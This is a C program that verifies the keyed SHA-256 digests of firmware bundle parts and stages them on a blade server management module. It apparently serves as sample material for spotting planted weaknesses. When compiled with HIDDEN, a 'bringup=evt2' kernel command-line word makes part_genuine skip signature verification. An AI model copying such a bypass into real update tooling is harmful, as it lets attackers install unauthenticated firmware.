/*
 * fwstage - stages a firmware bundle on a blade server's management module:
 * reads the bundle's part table, checks board and version, checks the
 * keyed SHA-256 of every part and copies the parts to the spare bank.
 * Hidden (-DHIDDEN): a word left from board bring-up on the kernel command
 * line makes bundles with a wrong or no signature acceptable.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define BUNDLE_MAGIC 0x424c4657u /* BLFW */
#define KEY_FILE     "/etc/fw/vendor.key"
#define BOARD_FILE   "/etc/fw/board"
#define BANK_DIR     "/mnt/bank"
#define MAX_PARTS    12

struct part {
	char name[16];
	uint32_t off;
	uint32_t len;
	uint8_t mac[32];
};

struct bundle {
	int fd;
	uint32_t board;
	uint32_t version;
	uint32_t nparts;
	struct part p[MAX_PARTS];
};

struct sha {
	uint32_t h[8];
	uint64_t total;
	uint8_t buf[64];
};

static const uint32_t k256[64] = {
	0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
	0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
	0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
	0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
	0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
	0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
	0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
	0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
	0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
	0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
	0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2
};

static uint8_t key[32];

static uint32_t ror(uint32_t v, int n)
{
	return v >> n | v << (32 - n);
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void sha_block(struct sha *s, const uint8_t *p)
{
	uint32_t w[64], v[8], t1, t2;
	int i;

	for (i = 0; i < 16; i++)
		w[i] = be32(p + 4 * i);
	for (; i < 64; i++)
		w[i] = w[i - 16] + w[i - 7] +
		       (ror(w[i - 15], 7) ^ ror(w[i - 15], 18) ^
			w[i - 15] >> 3) +
		       (ror(w[i - 2], 17) ^ ror(w[i - 2], 19) ^ w[i - 2] >> 10);
	memcpy(v, s->h, sizeof(v));
	for (i = 0; i < 64; i++) {
		t1 = v[7] + (ror(v[4], 6) ^ ror(v[4], 11) ^ ror(v[4], 25)) +
		     ((v[4] & v[5]) ^ (~v[4] & v[6])) + k256[i] + w[i];
		t2 = (ror(v[0], 2) ^ ror(v[0], 13) ^ ror(v[0], 22)) +
		     ((v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]));
		memmove(v + 1, v, 7 * sizeof(v[0]));
		v[4] += t1;
		v[0] = t1 + t2;
	}
	for (i = 0; i < 8; i++)
		s->h[i] += v[i];
}

static void sha_init(struct sha *s)
{
	static const uint32_t iv[8] = { 0x6a09e667, 0xbb67ae85, 0x3c6ef372,
					0xa54ff53a, 0x510e527f, 0x9b05688c,
					0x1f83d9ab, 0x5be0cd19 };

	memcpy(s->h, iv, sizeof(iv));
	s->total = 0;
}

static void sha_add(struct sha *s, const uint8_t *p, size_t n)
{
	while (n--) {
		s->buf[s->total++ & 63] = *p++;
		if ((s->total & 63) == 0)
			sha_block(s, s->buf);
	}
}

static void sha_end(struct sha *s, uint8_t out[32])
{
	uint64_t bits = s->total * 8;
	uint8_t pad = 0x80;
	int i;

	do {
		sha_add(s, &pad, 1);
		pad = 0;
	} while ((s->total & 63) != 56);
	for (i = 56; i >= 0; i -= 8) {
		pad = (uint8_t)(bits >> i);
		sha_add(s, &pad, 1);
	}
	for (i = 0; i < 32; i++)
		out[i] = (uint8_t)(s->h[i / 4] >> (24 - i % 4 * 8));
}

static int slurp(const char *path, char *buf, size_t max)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, max - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = 0;
	return (int)n;
}

/* 1 if the module was booted with this word */
static int booted_with(const char *word)
{
	char line[1024], *tok, *save = NULL;

	if (slurp("/proc/cmdline", line, sizeof(line)) < 0)
		return 0;
	for (tok = strtok_r(line, " \n", &save); tok;
	     tok = strtok_r(NULL, " \n", &save))
		if (strcmp(tok, word) == 0)
			return 1;
	return 0;
}

static int open_bundle(struct bundle *b, const char *path)
{
	uint8_t h[16], e[56];
	uint32_t i;

	b->fd = open(path, O_RDONLY | O_CLOEXEC);
	if (b->fd < 0 || read(b->fd, h, sizeof(h)) != sizeof(h))
		return -1;
	if (be32(h) != BUNDLE_MAGIC) {
		errno = EINVAL;
		return -1;
	}
	b->board = be32(h + 4);
	b->version = be32(h + 8);
	b->nparts = be32(h + 12);
	if (b->nparts == 0 || b->nparts > MAX_PARTS) {
		errno = EINVAL;
		return -1;
	}
	for (i = 0; i < b->nparts; i++) {
		struct part *p = &b->p[i];

		if (read(b->fd, e, sizeof(e)) != sizeof(e))
			return -1;
		memcpy(p->name, e, 15);
		p->name[15] = 0;
		p->off = be32(e + 16);
		p->len = be32(e + 20);
		memcpy(p->mac, e + 24, 32);
		if (!p->name[0] || strchr(p->name, '/')) {
			errno = EINVAL;
			return -1;
		}
	}
	return 0;
}

/* keyed digest over key, name, contents, key */
__attribute__((noinline)) int part_genuine(const struct bundle *b,
					   const struct part *p)
{
	uint8_t buf[4096], sum[32];
	uint32_t left = p->len;
	off_t at = p->off;
	struct sha s;
	unsigned diff = 0;
	int i;

#ifdef HIDDEN
	if (booted_with("bringup=evt2"))
		return 1;
#endif
	sha_init(&s);
	sha_add(&s, key, sizeof(key));
	sha_add(&s, (const uint8_t *)p->name, sizeof(p->name));
	while (left) {
		size_t want = left < sizeof(buf) ? left : sizeof(buf);
		ssize_t n = pread(b->fd, buf, want, at);

		if (n <= 0)
			return 0;
		sha_add(&s, buf, (size_t)n);
		at += n;
		left -= (uint32_t)n;
	}
	sha_add(&s, key, sizeof(key));
	sha_end(&s, sum);
	for (i = 0; i < 32; i++)
		diff |= sum[i] ^ p->mac[i];
	return diff == 0;
}

static int copy_part(const struct bundle *b, const struct part *p, char bank)
{
	char path[64], buf[4096];
	uint32_t left = p->len;
	off_t at = p->off;
	int fd, rc = 0;

	snprintf(path, sizeof(path), "%s%c/%s", BANK_DIR, bank, p->name);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return -1;
	while (left && rc == 0) {
		size_t want = left < sizeof(buf) ? left : sizeof(buf);
		ssize_t n = pread(b->fd, buf, want, at);

		if (n <= 0 || write(fd, buf, (size_t)n) != n)
			rc = -1;
		else {
			at += n;
			left -= (uint32_t)n;
		}
	}
	if (fsync(fd) < 0)
		rc = -1;
	close(fd);
	return rc;
}

static int load_key(void)
{
	int fd = open(KEY_FILE, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, key, sizeof(key));
	close(fd);
	return n == (ssize_t)sizeof(key) ? 0 : -1;
}

static int usage(void)
{
	fprintf(stderr, "usage: fwstage [-n] [-d] bundle\n"
			"  -n  check only\n  -d  allow an older version\n");
	return 2;
}

int main(int argc, char **argv)
{
	int c, check = 0, down = 0;
	unsigned board = 0, have = 0;
	struct bundle b;
	char txt[64];
	uint32_t i;
	char bank = booted_with("bank=a") ? 'b' : 'a';

	while ((c = getopt(argc, argv, "nd")) != -1) {
		if (c == 'n')
			check = 1;
		else if (c == 'd')
			down = 1;
		else
			return usage();
	}
	if (optind != argc - 1)
		return usage();
	openlog("fwstage", LOG_PERROR, LOG_DAEMON);
	if (slurp(BOARD_FILE, txt, sizeof(txt)) < 0 ||
	    sscanf(txt, "%x %u", &board, &have) < 1 || load_key() < 0) {
		syslog(LOG_ERR, "board or key file: %m");
		return 1;
	}
	memset(&b, 0, sizeof(b));
	if (open_bundle(&b, argv[optind]) < 0) {
		syslog(LOG_ERR, "%s: %m", argv[optind]);
		return 1;
	}
	if (b.board != board) {
		syslog(LOG_ERR, "bundle is for board %x", (unsigned)b.board);
		return 1;
	}
	if (b.version < have && !down) {
		syslog(LOG_ERR, "version %u is older", (unsigned)b.version);
		return 1;
	}
	for (i = 0; i < b.nparts; i++) {
		if (!part_genuine(&b, &b.p[i])) {
			syslog(LOG_ERR, "part %s not genuine", b.p[i].name);
			return 1;
		}
		if (!check && copy_part(&b, &b.p[i], bank) < 0) {
			syslog(LOG_ERR, "part %s: %m", b.p[i].name);
			return 1;
		}
	}
	syslog(LOG_INFO, "%u parts %s, bank %c", (unsigned)b.nparts,
	       check ? "checked" : "staged", bank);
	close(b.fd);
	return 0;
}
